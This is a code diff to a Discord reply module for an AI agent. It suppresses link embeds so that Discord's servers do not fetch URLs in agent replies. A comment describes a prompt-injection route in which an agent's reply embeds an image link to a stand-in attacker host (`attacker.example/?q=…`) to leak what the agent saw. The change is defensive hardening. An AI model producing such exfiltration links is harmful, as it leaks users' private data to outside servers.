@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { discordConfigOf } from './config.js';
-import { ChannelType, MessageType, Routes, type APIChannel, type APIMessage, type RESTPostAPIChannelMessageJSONBody } from 'discord-api-types/v10';
+import { ChannelType, MessageFlags, MessageType, Routes, type APIChannel, type APIMessage, type RESTPostAPIChannelMessageJSONBody } from 'discord-api-types/v10';
 import type { REST } from '@discordjs/rest';
 import type { ReplyPort, ThreadMessage } from '../../src/core/reply-port.js';
 import type { ReplyTarget } from '../../src/core/message.js';
@@ -61,7 +61,8 @@ function nonceFor(target: ReplyTarget, part: string): string {
 
 /**
  * Posts replies with the REST client alone (no gateway). Every message carries
- * `allowed_mentions: { parse: [] }`, so agent output never pings anyone; the first chunk
+ * `allowed_mentions: { parse: [] }`, so agent output never pings anyone, and SUPPRESS_EMBEDS,
+ * so none of its links is fetched for a preview; the first chunk
  * replies to the user's message (and pings them only when DISCORD_REPLY_PING is on).
  */
 export function createDiscordReplyPort(deps: ReplyPortDeps, options: DiscordReplyPortOptions = {}): ReplyPort {
@@ -93,6 +94,10 @@ export function createDiscordReplyPort(deps: ReplyPortDeps, options: DiscordRepl
     const body: RESTPostAPIChannelMessageJSONBody = {
       content,
       allowed_mentions: { parse: [], replied_user: discord!.replyPing },
+      // No link previews: Discord's servers would fetch every URL in the text at once, with no
+      // click, so a reply written by a prompt injection could send what the agent saw to any
+      // server (`![](https://attacker.example/?q=…)`). Links stay clickable.
+      flags: MessageFlags.SuppressEmbeds,
       nonce,
       enforce_nonce: true,
       ...(components && components.length > 0 ? { components } : {}),
